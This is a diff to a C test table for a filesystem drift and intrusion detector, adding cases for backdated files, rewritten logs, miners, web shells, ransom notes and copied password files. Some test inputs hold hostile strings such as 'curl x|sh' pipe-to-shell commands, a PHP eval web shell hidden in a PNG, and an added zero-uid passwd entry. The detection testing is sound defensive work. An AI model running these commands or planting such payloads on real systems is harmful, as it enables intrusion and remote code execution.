@@ -47,6 +47,17 @@ static const struct sl_xattr raw[] = {{"security.capability", raw_caps, sizeof(r
 static const uint8_t no_caps[20] = {1, 0, 0, 2};
 static const struct sl_xattr empty_set[] = {{"security.capability", no_caps, sizeof(no_caps)}};
 
+/* user::rw-, user:33:rw- or r--, group::r--, mask::rw-, other::--- */
+#define LIST(named)                                                                                \
+	{                                                                                          \
+		2, 0, 0, 0, 1, 0, 6, 0, 255, 255, 255, 255, 2, 0, named, 0, 33, 0, 0, 0, 4, 0, 4,  \
+			0, 255, 255, 255, 255, 16, 0, 6, 0, 255, 255, 255, 255, 32, 0, 0, 0, 255,  \
+			255, 255, 255                                                              \
+	}
+static const uint8_t list_rw[] = LIST(6), list_ro[] = LIST(4);
+static const struct sl_xattr write_list[] = {{"system.posix_acl_access", list_rw, sizeof(list_rw)}};
+static const struct sl_xattr read_list[] = {{"system.posix_acl_access", list_ro, sizeof(list_ro)}};
+
 #define T0 INT64_C(1000000000)
 static const struct sl_container container = {
 	.mounts = &(struct sl_mount){.path = (char *)(uintptr_t) "/data"},
@@ -64,6 +75,16 @@ static const struct sl_container container = {
 	REG(m, .fields = SL_ENTRY_CTIME | SL_ENTRY_MTIME, .mtime = {T0 + (wrote), 0},              \
 	    .ctime = {T0 + (sec), 0})
 #define CODE .signals = SL_SIGNAL_SERVER_CODE
+#define REWRITTEN .signals = SL_SIGNAL_REWRITTEN
+#define MINES .signals = SL_SIGNAL_MINER
+#define ORIGIN SL_ENTRY_ORIGIN
+/* Born at 9000, changed last at 9001 and a fraction, and says that it was written at @sec. */
+#define SET_BACK(p, sec, ns, f)                                                                    \
+	MOD(p, TEXT,                                                                               \
+	    REG(0644, .fields = SL_ENTRY_CTIME | SL_ENTRY_MTIME | SL_ENTRY_BTIME,                  \
+		.mtime = {T0 + (sec), ns}, .ctime = {T0 + 9001, 7}, .btime = {T0 + 9000, 7},       \
+		.flags = (f)),                                                                     \
+	    .fields = ~0u)
 #define SOCKET E(S_IFSOCK, 0777)
 #define TO(to) E(S_IFLNK, 0777, .target = {(to), sizeof(to) - 1})
 #define MARKED(p, signal)                                                                          \
@@ -100,6 +121,45 @@ static const struct {
 	 META("opt/x", SL_FIELD_MODE, PROGRAM, REG(0700))},
 	{"world-writable-gained", META("opt/x", SL_FIELD_MODE, TEXT, REG(0666)),
 	 META("opt/x", SL_FIELD_MODE, E(S_IFDIR, 0755), E(S_IFDIR, 01777))},
+	{"world-writable-gained", META("tmp", SL_FIELD_MODE, E(S_IFDIR, 01777), E(S_IFDIR, 0777)),
+	 META("tmp", SL_FIELD_MODE, E(S_IFDIR, 0777), E(S_IFDIR, 01777))},
+	{"world-writable-gained",
+	 META("opt/x", SL_FIELD_XATTRS, TEXT, REG(0644, .xattrs = write_list, .xattr_count = 1)),
+	 META("opt/x", SL_FIELD_XATTRS, TEXT, REG(0644, .xattrs = read_list, .xattr_count = 1))},
+	{"program-opened", META("usr/bin/id", SL_FIELD_MODE, PROGRAM, REG(0777)),
+	 META("opt/id", SL_FIELD_MODE, TEXT, REG(0666))},
+	{"program-opened",
+	 META("usr/bin/id", SL_FIELD_XATTRS, PROGRAM,
+	      REG(0755, .xattrs = write_list, .xattr_count = 1)),
+	 META("usr/bin/id", SL_FIELD_XATTRS, PROGRAM,
+	      REG(0755, .xattrs = read_list, .xattr_count = 1))},
+	{"program-given-away", META("usr/bin/id", SL_FIELD_OWNER, PROGRAM, REG(0755, .uid = 33)),
+	 META("usr/bin/id", SL_FIELD_OWNER, REG(0755, .uid = 33), PROGRAM)},
+	{"library-given-away", META("usr/lib/os.py", SL_FIELD_OWNER, TEXT, REG(0644, .uid = 33)),
+	 META("srv/app/os.py", SL_FIELD_OWNER, TEXT, REG(0644, .uid = 33))},
+	{"system-writable", META("etc/cron.d", SL_FIELD_MODE, SUBDIR, E(S_IFDIR, 0777)),
+	 META("srv/app", SL_FIELD_MODE, SUBDIR, E(S_IFDIR, 0777))},
+	{"system-directory-redirected", MOD("bin", SYMLINK, SYMLINK),
+	 MOD("srv/bin", SYMLINK, SYMLINK)},
+	{"encoded-program", ADD("srv/x.txt", TEXT), ADD("srv/x.txt", TEXT), "f0VMRgIBAQAAAAAA",
+	 "f0VMR is a text "},
+	{"encoded-program", ADD("srv/x", TEXT), ADD("srv/x", TEXT), "7f454c4602010100",
+	 "7f454c4699999999"},
+	{"passwords-copied", ADD("var/www/s.txt", TEXT), ADD("var/www/s.txt", TEXT),
+	 "root:$y$j9T$abcd", "root:x:0:0:root:"},
+	{"passwords-copied", ADD("tmp/s", TEXT), ADD("etc/shadow-", TEXT), "root:*:19000:0:9",
+	 "root:*:19000:0:9"},
+	{"program-new", ADD("srv/x", TEXT), ADD("srv/x", TEXT), "\357\273\277#!/bin/sh",
+	 "\357\273\277# title"},
+	{"program-new", ADD("srv/x", TEXT), ADD("srv/x", TEXT), "  \n#!/bin/sh\n", "  \n#! note\n"},
+	{"archive-disguised", ADD("var/log/x.log", TEXT), ADD("var/log/x.gz", TEXT), "\037\213x",
+	 "\037\213x"},
+	{"program-disabled", META("usr/bin/ps", SL_FIELD_MODE, PROGRAM, REG(0)),
+	 META("usr/bin/ps", SL_FIELD_MODE, PROGRAM, REG(0700))},
+	{"ransom-note", ADD("data/a.txt.locked", TEXT), ADD("data/a.lock", TEXT)},
+	{"ransom-note", ADD("data/README_RESTORE.txt", TEXT), ADD("data/README.txt", TEXT)},
+	{"privilege-policy", ADD("etc/polkit-1/rules.d/1.rules", TEXT),
+	 ADD("etc/polkit-1/rules.d", SUBDIR)},
 	{"world-writable-system", ADD("etc/x", REG(0666)), ADD("srv/x", REG(0666))},
 	{"system-program-changed", MOD("usr/bin/ls", PROGRAM, TEXT), ADD("usr/bin/ls", PROGRAM)},
 	{"system-program-changed", TYPE("sbin/init", PROGRAM, SYMLINK),
@@ -266,11 +326,11 @@ static const struct {
 	{"web-page", MOD("usr/share/nginx/html/index.html", TEXT, AT(9000)),
 	 MOD("usr/share/nginx/html/index.html", TEXT, AT(1010))},
 	{"staged-archive", ADD("tmp/x", AT(9000)), ADD("srv/x", AT(9000)), "\037\213", "\037\213"},
-	{"backdated", MOD("etc/x", TEXT, SAYS(-9000, 9000, 0644), .fields = ~0u),
-	 MOD("etc/x", TEXT, SAYS(2000, 9000, 0644), .fields = ~0u)},
+	{"backdated", SET_BACK("etc/x", -9000, 4, ORIGIN), SET_BACK("etc/x", 2000, 4, ORIGIN)},
+	{"backdated", SET_BACK("etc/x", -9000, 4, ORIGIN), SET_BACK("etc/x", -9000, 4, 0)},
 	/* apt gives its lists the time that the server says */
-	{"backdated", MOD("usr/share/x", TEXT, SAYS(-9000, 9000, 0644), .fields = ~0u),
-	 MOD("var/lib/apt/lists/x", TEXT, SAYS(-9000, 9000, 0644), .fields = ~0u)},
+	{"backdated", SET_BACK("usr/share/x", -9000, 4, ORIGIN),
+	 SET_BACK("var/lib/apt/lists/x", -9000, 4, ORIGIN)},
 	{"backdated-new", ADD("etc/x", SAYS(-9000, 9000, 0644)),
 	 ADD("var/lib/apt/lists/x", SAYS(-9000, 9000, 0644))},
 	{"backdated-program", ADD("opt/x", SAYS(-9000, 9000, 0755)),
@@ -282,6 +342,33 @@ static const struct {
 	/* npm and zip set times that stand for none */
 	{"backdated-new", ADD("opt/x", SAYS(-9000, 9000, 0644)),
 	 ADD("opt/x", SAYS(-T0 + 499162500, 9000, 0644))},
+	/* edited in place an hour after the start, then told a time of before */
+	{"time-set-in-place", SET_BACK("etc/x", 8000, 0, ORIGIN),
+	 SET_BACK("etc/x", 8000, 4, ORIGIN)},
+	{"time-set-in-place", SET_BACK("srv/x", 8000, 0, ORIGIN),
+	 SET_BACK("srv/x", 8999, 0, ORIGIN)},
+	/* what tar and dpkg unpack is an object of its own */
+	{"time-set-in-place", SET_BACK("srv/x", 8000, 0, ORIGIN), SET_BACK("srv/x", 8000, 0, 0)},
+	{"borrowed-time", ADD("opt/x", TEXT, .signals = SL_SIGNAL_BORROWED_MTIME),
+	 ADD("opt/x", TEXT, .signals = SL_SIGNAL_BORROWED_MTIME | SL_SIGNAL_PACKAGED)},
+	{"log-rewritten", MOD("var/log/dpkg.log", TEXT, AT(9000), REWRITTEN),
+	 MOD("var/log/dpkg.log", TEXT, AT(9000))},
+	{"log-rewritten", MOD("var/log/dpkg.log", TEXT, AT(9000), REWRITTEN),
+	 MOD("var/log/dpkg.log", TEXT, AT(5010), REWRITTEN)},
+	{"miner-program", ADD("opt/x", PROGRAM, MINES), ADD("opt/x.json", TEXT, MINES)},
+	{"miner-settings", ADD("opt/x.json", TEXT, MINES), ADD("etc/falco/r.yaml", TEXT, MINES)},
+	{"web-shell-code",
+	 ADD("app/x.dat", TEXT, .signals = SL_SIGNAL_SERVER_CODE | SL_SIGNAL_RUNS_INPUT),
+	 ADD("var/log/x", TEXT, .signals = SL_SIGNAL_SERVER_CODE | SL_SIGNAL_RUNS_INPUT)},
+	{"event-hook", ADD("srv/x.git/hooks/post-receive", TEXT), ADD("etc/mdev.confs", TEXT)},
+	{"event-hook", ADD("etc/dpkg/dpkg.cfg", TEXT), ADD("etc/dpkg/origins", TEXT)},
+	{"server-module", ADD("usr/local/lib/php/extensions/x/y.so", TEXT),
+	 ADD("usr/local/lib/php/x.php", TEXT)},
+	{"php-settings", ADD("etc/php83/conf.d/x.ini", TEXT), ADD("etc/phpx", TEXT)},
+	{"library-settings", MOD("etc/ssl1.1/openssl.cnf", TEXT, TEXT),
+	 MOD("etc/ssl1.1/x.cnf", TEXT, TEXT)},
+	{"defence-config", ADD("run/sysctl.d/x.conf", TEXT), ADD("run/sysctl.d", SUBDIR)},
+	{"trust-store", ADD("usr/share/pki/x.pem", TEXT), ADD("usr/share/pki", SUBDIR)},
 	{"impossible-time", ADD("opt/x", SAYS(9000000, 9000, 0644)),
 	 ADD("opt/x", SAYS(90000, 9000, 0644))},
 	{"impossible-time", ADD("opt/x", AT(-9000)), ADD("opt/x", AT(-900))},
@@ -294,8 +381,11 @@ static const struct {
 	{"pid-file", ADD("app/gunicorn.pid", TEXT), ADD("app/gunicorn.pid", REG(0644, .size = 99)),
 	 "42\n", "42\n"},
 	{"lock-file", ADD("var/lib/dpkg/lock", EMPTY), ADD("srv/x.lock", EMPTY)},
-	{"lock-file", ADD("run/postgresql/.s.PGSQL.5432.lock", TEXT), ADD("run/.x.lock", EMPTY),
-	 "42\n", NULL},
+	{"lock-file", ADD("run/app.lock", TEXT), ADD("run/app.lock", TEXT), "42\n", "id | sh\n"},
+	{"lock-text", ADD("run/app.lock", TEXT), ADD("srv/app.lock", TEXT), "host:42\n",
+	 "host:42\n"},
+	{"postgresql-lock", ADD("run/postgresql/.s.PGSQL.5432.lock", REG(0600, .uid = 105)),
+	 ADD("run/.x.lock", REG(0600, .uid = 105)), "42\n/var", "42\n/var"},
 	{"socket", ADD("run/app/app.sock", SOCKET), ADD("srv/app.sock", SOCKET)},
 	{"socket", ADD("run/postgresql/.s.PGSQL.5432", SOCKET), ADD("run/docker.sock", SOCKET)},
 	{"runtime-directory", ADD("run/nginx", SUBDIR), ADD("run/.nginx", SUBDIR)},
@@ -304,6 +394,8 @@ static const struct {
 	{"log-growth", MOD("var/log/nginx/access.log", TEXT, REG(0644, .size = 99)),
 	 MOD("var/log/nginx/access.log", REG(0644, .size = 99), TEXT), "1.2.", "1.2."},
 	{"log-growth", ADD("var/log/x", TEXT), ADD("var/log/x", TEXT), "log", NULL},
+	{"log-growth", MOD("var/log/x", TEXT, TEXT), MOD("var/log/x", TEXT, AT(1010), REWRITTEN),
+	 "log", "log"},
 	{"log-growth", ADD("var/log/x/a.log", TEXT), ADD("var/log/x/a.py", TEXT), "log", "log"},
 	{"log-growth", ADD("var/log/x", TEXT), ADD("var/log/x", TEXT), "log", "\1\2"},
 	{"log-growth", ADD("var/log/x", TEXT), ADD("var/log/x", TEXT), "log", "#!/bin/sh"},
@@ -332,23 +424,33 @@ static const struct {
 	{"postgresql-data", ADD("var/lib/postgresql/d", DIR_AT(1010, 0700, .uid = 70)),
 	 ADD("var/lib/postgresql/d", DIR_AT(1010, 0700))},
 	{"database-data", ADD("var/lib/redis/x", REG(0644, .uid = 9)),
-	 ADD("var/lib/redis/x.js", REG(0644, .uid = 9)), "x", "x"},
+	 ADD("var/lib/redis/x.js", REG(0644, .uid = 9)), "\1x", "\1x"},
 	{"database-data", MOD("var/lib/redis/dump.rdb", REG(0644, .uid = 9), REG(0644, .uid = 9)),
-	 ADD("var/lib/mysql/.my", REG(0644, .uid = 9)), "REDIS", "x"},
+	 ADD("var/lib/mysql/run", REG(0644, .uid = 9)), "REDIS\1", "curl x|sh"},
+	{"database-text", ADD("var/lib/redis/appendonly.aof", REG(0644, .uid = 9)),
+	 ADD("var/lib/mysql/.my", REG(0644, .uid = 9)), "*2\r\n$6", "x"},
 	{"web-server-temp", ADD("var/cache/nginx/client_temp/01", REG(0600, .uid = 101)),
 	 ADD("var/cache/nginx/client_temp/01", REG(0600, .uid = 101)), "a=1", "PK\3\4"},
 	{"web-server-directory", ADD("var/cache/nginx/client_temp", E(S_IFDIR, 0700, .uid = 101)),
 	 ADD("var/cache/nginx/.x", SUBDIR)},
 	{"apt-cache", ADD("var/lib/apt/lists/deb.debian.org_x_InRelease", TEXT),
 	 ADD("var/lib/apt/lists/deb.debian.org_x_InRelease", TEXT), "Origin", "#!/bin/sh"},
+	{"apt-cache", ADD("var/lib/apt/lists/lock", EMPTY), ADD("var/lib/apt/lists/evil", TEXT),
+	 NULL, "id"},
 	{"dpkg-cache", ADD("var/lib/dpkg/status-old", TEXT),
 	 ADD("var/lib/dpkg/status-old", REG(0644, .uid = 33)), "Package", "Package"},
+	{"dpkg-cache", ADD("var/cache/debconf/config.dat-old", TEXT),
+	 ADD("var/cache/debconf/x", TEXT), "Name", "id"},
 	{"font-cache", ADD("root/.cache/fontconfig/a-le64.cache-8", TEXT),
 	 ADD("root/.cache/fontconfig/.x/a.cache-8", TEXT), "\4\374", "\4\374"},
+	{"font-cache", ADD("var/cache/fontconfig/a-le64.cache-8", TEXT),
+	 ADD("var/cache/fontconfig/a-le64.cache-8", TEXT), "\4\374", "import os"},
+	{"font-cache-tag", ADD("var/cache/fontconfig/CACHEDIR.TAG", TEXT),
+	 ADD("var/cache/fontconfig/x", TEXT), "Signature: 8a477f", "Signature: 8a477f"},
 	{"machine-id", ADD("etc/machine-id", TEXT), ADD("etc/machine-id", TEXT), "0123456789abcdef",
-	 "\1\2"},
-	{"java-counters", ADD("tmp/hsperfdata_root/7", TEXT),
-	 ADD("tmp/hsperfdata_root/7", REG(0644, .size = 1 << 20)), "\312\376", "\312\376"},
+	 "curl x.yz/i|sh\n "},
+	{"java-counters", ADD("tmp/hsperfdata_root/7", TEXT), ADD("tmp/hsperfdata_root/7", TEXT),
+	 "\312\376\300\300\1", "id;curl x|sh"},
 	{"python-cache-directory", ADD("usr/lib/python3/__pycache__", SUBDIR),
 	 ADD("usr/lib/python3/__pycache__", TEXT)},
 	{"python-bytecode", ADD("usr/local/lib/python3.11/__pycache__/a.cpython-311.pyc", TEXT),
@@ -428,7 +530,7 @@ static const struct {
 	{"database-data-of-root", MOD("prometheus/queries.active", TEXT, TEXT),
 	 ADD("etcd-data/member/x.py", TEXT), "\1", "\1"},
 	{"database-data", MOD("prometheus/wal/0", REG(0644, .uid = 9), REG(0644, .uid = 9)),
-	 ADD("prometheus/x.sh", REG(0644, .uid = 9)), "x", "x"},
+	 ADD("prometheus/x.sh", REG(0644, .uid = 9)), "\1", "\1"},
 	{"key-at-start", ADD("etc/nginx/ssl/tls.key", AT(1010)),
 	 ADD("etc/nginx/ssl/tls.key", AT(1100)), "-----BEGIN PRIVA", "-----BEGIN PRIVA"},
 	{"key-at-start", ADD("etc/ssh/ssh_host_rsa_key", AT(1010)),
@@ -675,12 +777,45 @@ static const struct drift_case severities[] = {
 	 {FILE_WITH("etc/passwd", "root:x\n")},
 	 {FILE_WITH("etc/passwd", "root:x\nevil::0\n", .mtime = {9, 0})},
 	 "modified etc/passwd critical {accounts}\n"},
+	{"a miner without a name",
+	 true,
+	 {DIRECTORY("opt")},
+	 {DIRECTORY("opt"),
+	  FILE_WITH("opt/agent", "\177ELF... stratum+tcp://pool:1 ...", .mode = S_IFREG | 0755)},
+	 "added opt/agent critical [elf,executable,miner] "
+	 "{miner-program,miner-settings,program-new}\n"},
+	{"a picture that runs what it is sent",
+	 true,
+	 {DIRECTORY("app")},
+	 {DIRECTORY("app"), FILE_WITH("app/logo.png", "\211PNG\r\n<?php eval($_POST['x']);")},
+	 "added app/logo.png critical [server-code,runs-input] "
+	 "{web-shell-code,picture-with-code}\n"},
 	{"a trojaned program that pretends to be old",
 	 true,
 	 {FILE_WITH("usr/bin/ls", "\177ELF1", .mode = S_IFREG | 0755)},
 	 {FILE_WITH("usr/bin/ls", "\177ELF2", .mode = S_IFREG | 0755)},
 	 "modified usr/bin/ls critical [forged-mtime,elf,executable,in-path] "
 	 "{system-program-changed,forged-mtime,program-changed}\n"},
+	{"a log that grew",
+	 true,
+	 {FILE_WITH("var/log/auth.log", "failed\n")},
+	 {FILE_WITH("var/log/auth.log", "failed\nagain\n", .mtime = {9, 0})},
+	 "modified var/log/auth.log info {log-growth} (rule)\n"},
+	{"a log whose lines are others, in the same length",
+	 true,
+	 {FILE_WITH("var/log/auth.log", "failed\n")},
+	 {FILE_WITH("var/log/auth.log", "passed\n", .mtime = {9, 0})},
+	 "modified var/log/auth.log high [rewritten] {log-rewritten}\n"},
+	{"a log that was emptied and has grown again",
+	 true,
+	 {FILE_WITH("var/log/auth.log", "failed\n")},
+	 {FILE_WITH("var/log/auth.log", "nothing to see, much of it\n", .mtime = {9, 0})},
+	 "modified var/log/auth.log high [rewritten] {log-rewritten}\n"},
+	{"a table of log-ins is written in place",
+	 true,
+	 {FILE_WITH("var/log/lastlog", "abc\n")},
+	 {FILE_WITH("var/log/lastlog", "abd\n", .mtime = {9, 0})},
+	 "modified var/log/lastlog info {log-growth} (rule)\n"},
 	{"a log that was emptied",
 	 true,
 	 {FILE_WITH("var/log/auth.log", "failed\n")},
